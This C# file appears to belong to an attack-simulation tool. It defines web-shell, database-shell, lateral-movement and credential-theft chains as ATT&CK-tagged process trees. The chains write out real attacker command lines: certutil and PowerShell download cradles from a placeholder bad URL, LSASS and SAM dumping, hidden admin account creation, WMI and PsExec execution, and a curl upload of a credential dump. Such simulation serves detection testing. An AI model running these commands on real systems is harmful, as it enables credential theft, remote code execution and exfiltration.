using Changeling.Simulation.Habits;
using static Changeling.Simulation.Fleet.HostRole;

namespace Changeling.Simulation.Attacks;

/// <summary>Chains that come in through a service, or go from machine to machine.</summary>
internal static class ServerChains
{
    public static readonly AttackChain WebShell = new("web-shell", [WebServer],
        new ChainPart("w3wp", Shell("whoami", new Scene("whoami.exe", "whoami", "whoami  /priv") { Technique = "T1033" })) { After = 1 },
        new ChainPart(
            "w3wp",
            Shell(
                "net user",
                new Scene("net.exe", "net  user")
                {
                    Technique = "T1087.001",
                    Then = [new("net1.exe", @"C:\Windows\system32\net1  user") { Technique = "T1087.001", After = 0.03 }],
                })),
        new ChainPart(
            "w3wp",
            Shell(
                @"certutil -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe",
                new Scene(
                    "certutil.exe",
                    @"certutil  -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe")
                { Technique = "T1105" })),
        new ChainPart(
            "w3wp",
            Shell(
                @"C:\Windows\Temp\<=payload>64.exe -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp",
                new Scene(
                    "renamed-procdump",
                    @"C:\Windows\Temp\<=payload>64.exe  -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp")
                { Technique = "T1003.001" }))
        { After = 150 });

    public static readonly AttackChain DatabaseShell = new("database-shell", [DatabaseServer],
        new ChainPart(
            "sqlservr",
            Shell(
                "whoami & hostname & ipconfig /all",
                new Scene("whoami.exe", "whoami") { Technique = "T1033" },
                new Scene("ipconfig.exe", "ipconfig  /all") { Technique = "T1016" }))
        { After = 1 },
        new ChainPart("sqlservr", Shell(
            "powershell -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"",
            new Scene(
                "powershell.exe",
                "powershell  -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"")
            {
                Technique = "T1059.001",
                Then =
            [
                new(
                    "bitsadmin.exe",
                    @"""C:\Windows\system32\bitsadmin.exe"" /transfer <=bad-file> /download /priority high " +
                        @"<=bad-url>/<=bad-file>.exe C:\Users\Public\<=payload>.exe") { Technique = "T1197", After = 15 },
                new("dropper", "<path>", "<path> -d <=c2>")
                {
                    Technique = "T1105",
                    After = 30,
                    Then =
                    [
                        new("net.exe", "net  user svc_backup$ <=hex:10>A! /add")
                        {
                            Technique = "T1136.001",
                            After = 25,
                            Then =
                            [
                                new(
                                    "net1.exe",
                                    @"C:\Windows\system32\net1  user svc_backup$ <=hex:10>A! /add")
                                { Technique = "T1136.001", After = 0.03 },
                            ],
                        },
                    ],
                },
            ],
            })));

    public static readonly AttackChain Lateral = new("lateral-movement", [AdminWorkstation, DeveloperWorkstation, OfficeWorkstation],
        new ChainPart(
            "explorer",
            new Scene("user-dropper", "<path>", "<path> --silent")
            {
                As = "elevated",
                Technique = "T1204.002",
                Then =
                [
                    new(
                        "cmd.exe",
                        @"C:\Windows\system32\cmd.exe /c ""wmic /node:<=target> process call create ""powershell -nop -w hidden " +
                            @"-enc <=encoded:discovery>""""")
                    {
                        Technique = "T1059.003",
                        After = 40,
                        Then =
                        [
                            new(
                                "wmic.exe",
                                @"wmic  /node:<=target> process call create ""powershell -nop -w hidden -enc <=encoded:discovery>""")
                            { Technique = "T1047" },
                        ],
                    },
                ],
            })
        { After = 1 },
        new ChainPart(
            "wmi",
            new Scene("powershell.exe", "powershell  -nop -w hidden -enc <=encoded:discovery>")
            {
                As = "helpdesk",
                Technique = "T1047",
                Then =
                [
                    new("net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain")
                    {
                        Technique = "T1069.002",
                        After = 12,
                        Then =
                        [
                            new(
                                "net1.exe",
                                @"C:\Windows\system32\net1 group ""Domain Admins"" /domain") { Technique = "T1069.002", After = 0.03 },
                        ],
                    },
                    new("quser.exe", "\"C:\\Windows\\system32\\quser.exe\"") { Technique = "T1033", After = 9 },
                ],
            })
        { OnTarget = true, After = 45 },
        new ChainPart(
            "services",
            new Scene(
                "psexesvc.exe",
                @"C:\Windows\PSEXESVC.exe")
            {
                As = "system",
                Technique = "T1569.002",
                Then = [new(
                    "cmd.exe",
                    "\"cmd.exe\" ",
                    "\"cmd\" /c powershell -ep bypass -f C:\\Windows\\Temp\\<=bad-file>.ps1")
                {
                    Technique = "T1059.003",
                    Then = [new("whoami.exe", "whoami") { Technique = "T1033", After = 15 }, new(
                        "rundll32.exe",
                        @"rundll32  C:\Windows\Temp\<=payload>.dll,#1") { Technique = "T1218.011", After = 30 }],
                }],
            })
        { OnTarget = true, After = 180 })
    {
        Targets = [FileServer, WebServer, DatabaseServer, OfficeWorkstation],
        NeedsPerson = true,
    };

    public static readonly AttackChain Credentials = new("credential-theft", [AdminWorkstation, OfficeWorkstation, DeveloperWorkstation],
        new ChainPart("schedule", new Scene("copied-rundll32", @"<path> C:\ProgramData\<=bad-file>.dat,Run")
        {
            As = "system",
            Technique = "T1036.003",
            Then =
        [
            new(
                "cmd.exe",
                @"C:\Windows\system32\cmd.exe /c reg save HKLM\SAM C:\ProgramData\<=bad-file>1.hiv /y && reg save HKLM\SYSTEM " +
                    @"C:\ProgramData\<=bad-file>2.hiv /y")
            {
                Technique = "T1059.003",
                After = 10,
                Then =
                [
                    new("reg.exe", @"reg  save HKLM\SAM C:\ProgramData\<=bad-file>1.hiv /y") { Technique = "T1003.002" },
                    new("reg.exe", @"reg  save HKLM\SYSTEM C:\ProgramData\<=bad-file>2.hiv /y") { Technique = "T1003.002" },
                ],
            },
            new(
                "powershell.exe",
                "powershell.exe -nop -w hidden -c \"rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id " +
                    "C:\\ProgramData\\<=bad-file>.dmp full\"")
            {
                Technique = "T1059.001",
                After = 30,
                Then =
                [
                    new(
                        "rundll32.exe",
                        @"""C:\Windows\system32\rundll32.exe"" C:\Windows\System32\comsvcs.dll MiniDump <num:600-1100> " +
                            @"C:\ProgramData\<=bad-file>.dmp full") { Technique = "T1003.001" },
                ],
            },
            new("cmd.exe", @"C:\Windows\system32\cmd.exe /c curl -F f=@C:\ProgramData\<=bad-file>.dmp <=bad-url>/u")
            {
                Technique = "T1059.003",
                After = 60,
                Then = [new("curl.exe", @"curl  -F f=@C:\ProgramData\<=bad-file>.dmp <=bad-url>/u") { Technique = "T1048.003" }],
            },
        ]
        })
        { After = 1 })
    {
        NeedsPerson = true,
    };

    /// <summary>A service's cmd.exe, as a web shell or xp_cmdshell starts it.</summary>
    private static Scene Shell(string command, params Scene[] then) =>
        new(
            "cmd.exe",
            $@"""C:\Windows\system32\cmd.exe"" /c {command}",
            $@"""cmd.exe"" /c {command}")
        { Technique = "T1059.003", Then = then };
}
